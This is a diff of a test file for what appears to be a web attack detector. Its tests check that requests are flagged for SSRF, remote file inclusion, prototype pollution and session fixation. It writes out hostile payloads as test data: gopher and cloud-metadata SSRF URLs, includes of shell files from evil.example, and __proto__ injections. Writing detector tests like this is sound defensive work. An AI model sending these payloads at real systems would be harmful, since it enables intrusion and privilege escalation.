@@ -176,15 +176,20 @@ test("the newer families are detected where attackers put them", async () => {
   await expectDetected({ path: "/preview", headers: form, body: "link=" + q("http://[::ffff:127.0.0.1]/admin") }, "ssrf", "body.form:link");
   await expectDetected({ path: "/", headers: { "x-forwarded-host": "http://metadata.google.internal/computeMetadata/v1/" } }, "ssrf", "header:x-forwarded-host");
   await expectDetected({ path: "/proxy/" + q("http://2130706433/") }, "ssrf", "path");
+  await expectDetected({ path: "/fetch?u=" + q("gopher://127.0.0.1:6379/_SET") }, "ssrf", "query:u");
   // rfi: query, form, cookie.
   await expectDetected({ path: "/index.php?file=" + q("http://evil.example/shell.txt?") }, "rfi", "query:file");
   await expectDetected({ path: "/load", headers: form, body: "tpl=" + q("ftp://evil.example/pub/x.php") }, "rfi", "body.form:tpl");
   await expectDetected({ path: "/", headers: { cookie: "skin=" + q("\\\\attacker\\share\\shell.php") } }, "rfi", "cookie:skin");
+  // rfi by the parameter's name: any web URL as a page or template to include (query, form).
+  await expectDetected({ path: "/index.php?page=" + q("http://evil.example/x") }, "rfi", "query:page");
+  await expectDetected({ path: "/render", headers: form, body: "template=" + q("https://evil.example/t") }, "rfi", "body.form:template");
   // protopollution: query name, JSON key, form name, path segment.
   await expectDetected({ path: "/api/settings?__proto__[isAdmin]=true" }, "protopollution", "query-name");
   await expectDetected({ path: "/api/merge", headers: json, body: '{"user":{"__proto__":{"role":"admin"}}}' }, "protopollution", "body.json:$.user.__proto__");
   await expectDetected({ path: "/api/profile", headers: form, body: "constructor[prototype][admin]=1" }, "protopollution", "body.form:constructor[prototype][admin]");
   await expectDetected({ path: "/api/__proto__/x" }, "protopollution", "path");
+  await expectDetected({ path: "/api/set/constructor/prototype/isAdmin" }, "protopollution", "path");
   // sessionfixation: query name, form value.
   await expectDetected({ path: "/login?PHPSESSID=attacker0123" }, "sessionfixation", "query-name");
   await expectDetected({ path: "/contact", headers: form, body: "msg=" + q("Set-Cookie: JSESSIONID=fixated") }, "sessionfixation", "body.form:msg");
